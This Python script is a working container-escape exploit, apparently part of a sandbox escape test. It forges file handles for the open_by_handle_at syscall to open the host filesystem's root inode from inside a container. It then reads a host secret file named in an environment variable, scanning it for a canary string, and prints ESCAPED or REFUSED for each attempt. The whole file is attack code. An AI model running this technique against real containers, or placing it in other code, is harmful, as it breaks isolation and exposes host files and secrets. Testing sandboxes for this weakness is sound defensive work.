"""Opens the root inode of the file system by a made-up handle, which knows no mount and no path.
Success: a directory is opened that way, best with the canary of the host's secret file."""
import ctypes
import errno
import json
import os
import re
import struct

FACTS = json.loads(os.environ.get("HOST_FACTS", "{}"))
LIBC = ctypes.CDLL(None, use_errno=True)


def call(name, *args):
    """Calls the C library; an error becomes an OSError."""
    result = getattr(LIBC, name)(*args)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


def say(text):
    print(text, flush=True)


def attempt(what, action):
    """Prints the proof that the action returns, or why there is none."""
    try:
        proof = action()
        say("ESCAPED: %s (%s)" % (proof, what) if proof else "REFUSED: no effect (%s)" % what)
    except KeyError as missing:
        say("REFUSED: no fact %s (%s)" % (missing.args[0], what))
    except OSError as error:
        say("REFUSED: %s (%s)" % (errno.errorcode.get(error.errno, error), what))


def canary(data):
    found = re.search(rb"CANARY-[\w.-]+", data)
    return found.group().decode() if found else None


def by_handle(inode):
    handle = struct.pack("IiII", 8, 1, inode, 0)
    here = os.open(".", os.O_RDONLY)
    root = call("open_by_handle_at", here, handle, os.O_RDONLY | os.O_DIRECTORY)
    try:
        fd = os.open(FACTS["hostSecretFile"].lstrip("/"), os.O_RDONLY, dir_fd=root)
        return canary(os.read(fd, 4096))
    except (KeyError, OSError):
        return "opened inode %d with %d entries" % (inode, len(os.listdir(root)))


say("begin")
for inode in (2, 64, 128):
    attempt("inode %d" % inode, lambda: by_handle(inode))
